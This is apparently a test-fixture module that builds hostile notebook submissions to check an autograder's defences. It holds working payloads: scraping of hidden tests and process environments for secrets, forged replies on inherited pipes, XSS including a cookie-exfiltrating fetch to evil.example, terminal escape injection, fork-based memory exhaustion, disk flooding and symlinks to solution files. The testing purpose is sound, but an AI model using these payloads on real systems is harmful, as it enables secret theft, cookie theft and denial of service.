"""Hostile submissions of round two (issue 11, item 7), written as a motivated
learner would, by what they go after: the grader's secrets, its input
parsing, the people who read its output, and the limits of one submission.

Each starts from the notebook of ``a_wrong_baseline`` (attention divided by
d_k), so that none may score more than that baseline.
"""
from __future__ import annotations

import json
from pathlib import Path

import nbformat

from autograder.course import NOTEBOOKS, SOLUTIONS
from submissions import learner_notebook, write_submission

A = "03_scaled_attention"
SDPA = "scaled_dot_product_attention"
NOTEBOOK = f"{NOTEBOOKS[A]}.ipynb"

# Kernel and worker sandboxes alike, searching for what the grader hides. The
# marker is built so that this code does not contain it.
HIDDEN_TESTS = r'''
import inspect, linecache, sys
from IPython import get_ipython

_wrong = scaled_dot_product_attention
MARKER = "HIDDEN " + "TESTS"


def sources_around_me():
    """The source of every caller, all that linecache holds, and the kernel's
    input history (the running test cell is its last entry)."""
    texts = []
    frame = sys._getframe(1)
    while frame is not None:
        texts.append("".join(linecache.getlines(frame.f_code.co_filename)))
        frame = frame.f_back
    for info in inspect.stack():
        try:
            texts.append(inspect.getsource(info.frame))
        except (OSError, TypeError):
            pass
    texts += ["".join(entry[2]) for entry in list(linecache.cache.values()) if len(entry) == 4]
    shell = get_ipython()
    if shell is not None:
        texts += list(shell.user_ns.get("In", [])) + list(shell.user_ns.get("_ih", []))
        texts += list(shell.history_manager.input_hist_raw)
    return texts


def scaled_dot_product_attention(queries, keys, values):
    loot = [text for text in sources_around_me() if MARKER in text]
    if loot:
        print(*loot, sep="\n")
        raise RuntimeError(loot[-1][loot[-1].index(MARKER):][:400])
    return _wrong(queries, keys, values)
'''

# Reads the files first: the import stops the cell where it fails.
CHECK_LIBRARY = '''
import glob, inspect, os, sys

for folder in sys.path:
    for path in glob.glob(os.path.join(folder or ".", "autograder", "checks", "*.py")):
        try:
            print(path, open(path).read(), sep="\\n")
        except OSError as error:
            print(path, error)

import autograder.checks.scaled_attention as reference

print(inspect.getsource(reference))
scaled_dot_product_attention = reference.reference_attention
'''

ENVIRONMENT = r'''
import glob, os, re

_wrong = scaled_dot_product_attention
WANTED = re.compile("SECRET|TOKEN|PASSWORD|CANARY|^GRADER")


def environments():
    """This process's variables and those of every process I can see."""
    found = dict(os.environ)
    for path in glob.glob("/proc/[0-9]*/environ") + ["/proc/self/environ"]:
        try:
            entries = open(path, "rb").read().split(b"\0")
        except OSError:
            continue
        for entry in entries:
            name, _, value = entry.decode(errors="replace").partition("=")
            found.setdefault(name, value)
    return found


print(environments())


def scaled_dot_product_attention(queries, keys, values):
    """In the grader's own run, the interesting variables travel in the error message."""
    loot = [f"{name}={value}" for name, value in environments().items() if WANTED.search(name)]
    if loot:
        raise RuntimeError("; ".join(loot)[:400])
    return _wrong(queries, keys, values)
'''

# The worker answers the grader on a duplicate of its stdout: write on every
# descriptor open for writing on a file or pipe, before the real answers.
REPLY_CHANNELS = r'''
import fcntl, json, os, stat

_wrong, _forged = scaled_dot_product_attention, False


def reply_channels():
    for fd in range(1, 64):
        try:
            mode, flags = os.fstat(fd).st_mode, fcntl.fcntl(fd, fcntl.F_GETFL)
        except OSError:
            continue
        if (stat.S_ISREG(mode) or stat.S_ISFIFO(mode)) and flags & os.O_ACCMODE != os.O_RDONLY:
            yield fd


def scaled_dot_product_attention(queries, keys, values):
    global _forged
    if not _forged:
        _forged = True
        for fd in reply_channels():
            os.write(fd, forged_replies().encode())
    return _wrong(queries, keys, values)
'''

DEEP_REPLIES = REPLY_CHANNELS + r'''

def forged_replies():
    deep = "[" * 5000 + "]" * 5000
    return "".join('{"id": %d, "outputs": %s, "state": null}\n' % (i, deep) for i in range(24))
'''

MISTYPED_REPLIES = REPLY_CHANNELS + r'''

def tensor(dtype, shape, data):
    return {"__tensor__": {"dtype": dtype, "shape": shape, "data": data}}


FORGERIES = [
    {"outputs": [tensor("float32", [0, 10**30], "")], "state": None},     # empty, yet too large a shape
    {"outputs": [{"__generator__": "AAAA"}], "state": None},              # a generator state of 3 bytes
    {"outputs": [tensor(["float32"], [1], "AACAPw==")], "state": None},   # a dtype that is a list
    {"outputs": {"__dict__": 5}, "state": []},
    {"outputs": "context", "state": {"__dict__": {"W_query": 7}}, "grads": [None]},
    {"error": {"type": ["ValueError"]}},
    {"id": True, "outputs": []},
    {"id": 2**80, "outputs": []},
]


def forged_replies():
    return "".join(json.dumps({"id": i, **FORGERIES[i % len(FORGERIES)]}) + "\n" for i in range(24))
'''

HUGE_STATE_DICT = '''
_plain = SelfAttention_v1


class SelfAttention_v1(_plain):
    """Carries 200000 buffers: its state_dict has 200003 entries."""

    def __init__(self, d_in, d_out):
        super().__init__(d_in, d_out)
        for i in range(200000):
            self.register_buffer(f"pad{i}", torch.zeros(()))
'''

ACTIVE_CONTENT = '''
from IPython.display import HTML, SVG, Javascript, Markdown, display

display(HTML('<script>document.title = "pwned"</script><b onmouseover="alert(1)">hover me</b>'
             '<a href="javascript:alert(2)">my notes</a><iframe src="javascript:alert(3)"></iframe>'))
display(Javascript("alert(4)"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(5)"><script>alert(6)</script></svg>'))
display(Markdown('<img src="x" onerror="alert(7)">'))
'''

MARKDOWN_XSS = """Thanks for grading! <img src="x" onerror="fetch('https://evil.example/?c=' + document.cookie)">
<a href="javascript:alert(1)">my notes</a> <svg onload="alert(2)"></svg>
<script>alert(3)</script>
"""

TERMINAL_ESCAPES = r'''
ESCAPES = "\x1b[2J\x1b]0;pwned\x07"
print(ESCAPES + "your screen was cleared")


def scaled_dot_product_attention(queries, keys, values):
    raise ValueError(ESCAPES + "queries rejected")
'''
ESCAPING_FILE_NAME = "\x1b[2J\x1b]0;pwned\x07notes.txt"

# Four children take 1 GiB each and hold it: a limit per process lets them
# have 4 GiB under memory_mb=3072. They report through pipes, and ask to be
# the ones killed if memory runs out (an OOM kill may hit a child that had
# its 1 GiB already), so that the kernel prints what the living ones hold.
FORKED_MEMORY = r'''
import os, select, signal, time


def hog(report):
    try:
        with open("/proc/self/oom_score_adj", "w") as adj:
            adj.write("1000")
    except OSError:
        pass
    held = []
    try:
        for _ in range(16):
            held.append(b"\x01" * 2**26)  # 64 MiB, every page written
            os.write(report, b"%d\n" % (64 * len(held)))
    except MemoryError:
        pass
    os.write(report, b"done\n")
    time.sleep(60)


children, got, pending = {}, {}, {}
for _ in range(4):
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        try:
            hog(w)
        finally:
            os._exit(0)
    os.close(w)
    children[r], got[r], pending[r] = pid, 0, b""
running, deadline = set(children), time.time() + 30
while running and time.time() < deadline:
    for r in select.select(list(running), [], [], 1)[0]:
        data = os.read(r, 4096)
        pending[r] += data
        *lines, pending[r] = pending[r].split(b"\n")
        got[r] = max([got[r]] + [int(line) for line in lines if line.isdigit()])
        if not data or b"done" in lines:
            running.discard(r)
time.sleep(1)  # a child killed while another allocated is gone by now
for r, pid in children.items():
    if os.waitpid(pid, os.WNOHANG)[0]:
        got[r] = 0  # killed: it holds nothing
    else:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
print(f"forked children held {sorted(got.values())} MiB at once, {sum(got.values())} MiB in total")
'''

# The kernel's runtime folder (its connection file's, from its argv) lies on
# the grader's disk unless the grader bounds it; files of 32 MiB stay under
# the per-file size limit.
RUNTIME_FLOOD = '''
import os, sys

if "-f" in sys.argv:
    runtime = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
    written, block = 0, bytes(2**20)
    try:
        for n in range(8):
            with open(os.path.join(runtime, f"flood{n}"), "wb") as fh:
                for _ in range(32):
                    fh.write(block)
                    fh.flush()
                    written += 1
    except OSError as error:
        print("stopped:", error)
    print(f"wrote {written} MiB into the runtime folder")
'''

# student -> (the grade_id of the cell they follow, the cells added, in order)
CELLS = {
    "f_secret_hidden_tests": (SDPA, [HIDDEN_TESTS]),
    "f_secret_check_library": (SDPA, [CHECK_LIBRARY]),
    "f_secret_environment": (SDPA, [ENVIRONMENT]),
    "g_input_deeply_nested_replies": (SDPA, [DEEP_REPLIES]),
    "g_input_mistyped_replies": (SDPA, [MISTYPED_REPLIES]),
    "g_input_huge_state_dict": ("SelfAttention_v1", [HUGE_STATE_DICT]),
    "h_output_active_content": (SDPA, [ACTIVE_CONTENT, nbformat.v4.new_markdown_cell(MARKDOWN_XSS)]),
    "h_output_terminal_escapes": (SDPA, [TERMINAL_ESCAPES]),  # and a file named with ESCAPES beside it
    "i_limit_forked_memory": (SDPA, [FORKED_MEMORY]),
    "i_limit_runtime_flood": (SDPA, [RUNTIME_FLOOD]),
}
# Submissions that must be refused: every test cell gets status "error".
REFUSED = ["f_secret_notebook_symlink", "f_secret_timestamp_symlink", "g_input_metadata_not_a_dict",
           "g_input_grade_id_not_a_string"]
# Two folders that nbgrader reads as one student: the twin (the solution) must be refused.
EVE, EVE_TWIN = "x_eve", "x_eve\n"
MEMORY, RUNTIME = "i_limit_forked_memory", "i_limit_runtime_flood"
#: Every student of round two that gets rows in grades_detail.csv.
GRADED = [*CELLS, *REFUSED, EVE]


def with_cell(nb, cell, after: str = SDPA):
    """A copy of ``nb`` with ``cell`` (code, or an nbformat cell) inserted after the cell ``after`` (a grade_id)."""
    nb = nbformat.from_dict(json.loads(json.dumps(nb)))
    if isinstance(cell, str):
        cell = nbformat.v4.new_code_cell(cell)
    i = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == after)
    nb.cells.insert(i + 1, cell)
    return nb


def write_round_two(root: Path, wrong, outside_file: Path) -> None:
    """Write every submission of round two under ``root``; ``wrong`` is the
    baseline's notebook and ``outside_file`` a file outside ``root`` that a
    symbolic link points to."""
    for student, (after, cells) in CELLS.items():
        nb = wrong
        for cell in reversed(cells):
            nb = with_cell(nb, cell, after)
        write_submission(root, student, A, nb)
    (root / "h_output_terminal_escapes" / A / ESCAPING_FILE_NAME).write_text("my notes\n")
    link = root / "f_secret_notebook_symlink" / A / NOTEBOOK
    link.parent.mkdir(parents=True)
    link.symlink_to(SOLUTIONS / A / NOTEBOOK)
    folder = write_submission(root, "f_secret_timestamp_symlink", A, wrong).parent
    (folder / "timestamp.txt").symlink_to(outside_file)
    listed = nbformat.v4.new_code_cell("print('my notes')", metadata={"nbgrader": ["x"]})
    write_submission(root, "g_input_metadata_not_a_dict", A, with_cell(wrong, listed))
    numbered = nbformat.v4.new_code_cell("print('my notes')", metadata={"nbgrader": {
        "grade": False, "grade_id": 5, "locked": False, "schema_version": 3, "solution": True, "task": False}})
    write_submission(root, "g_input_grade_id_not_a_string", A, with_cell(wrong, numbered))
    write_submission(root, EVE, A, wrong)
    write_submission(root, EVE_TWIN, A, learner_notebook(A))
